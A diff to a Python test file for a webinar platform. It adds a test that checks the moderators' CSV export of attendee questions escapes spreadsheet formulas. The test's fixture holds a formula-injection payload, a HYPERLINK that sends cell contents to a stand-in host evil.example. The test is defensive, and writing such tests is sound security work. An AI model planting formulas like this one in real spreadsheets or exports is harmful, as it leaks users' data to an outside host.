@@ -9,7 +9,7 @@ from community.accounts.models import utcnow
 from community.extensions import db
 from community.forum.models import Category
 from community.webinars.models import LiveQuestion, Registration, Webinar
-from tests.helpers import log_in, make_user, page_text, post_form
+from tests.helpers import csv_rows, log_in, make_user, page_text, post_form
 
 
 def client_for(app, email, roles=()):
@@ -152,6 +152,28 @@ def test_moderators_export_the_questions(app, webinar_id):
     assert "## Hoe koppelt Veilig Thuis terug?" in markdown
     attendee = client_for(app, "a@verbind.example")
     assert attendee.get(f"/webinars/{webinar_id}/questions.csv").status_code == 403
+
+
+def test_question_export_turns_what_attendees_typed_into_text_not_formulas(app, webinar_id):
+    hostile = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
+    with app.app_context():
+        author = make_user(name="@SUM(1+1)", email="vrager@verbind.example")
+        db.session.add(
+            LiveQuestion(
+                webinar_id=webinar_id,
+                author_id=author.id,
+                client_token="z" * 10,
+                text=hostile,
+                votes=3,
+                answered=True,
+                reply="+31 6 12345678 belt u terug",
+            )
+        )
+        db.session.commit()
+    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
+    header, row = csv_rows(moderator.get(f"/webinars/{webinar_id}/questions.csv"))
+    assert header[:3] == ["Vraag", "Gevraagd door", "Stemmen"]
+    assert row[:5] == ["'" + hostile, "'@SUM(1+1)", "3", "ja", "'+31 6 12345678 belt u terug"]
 
 
 def test_live_page_is_for_attendees(app, webinar_id):
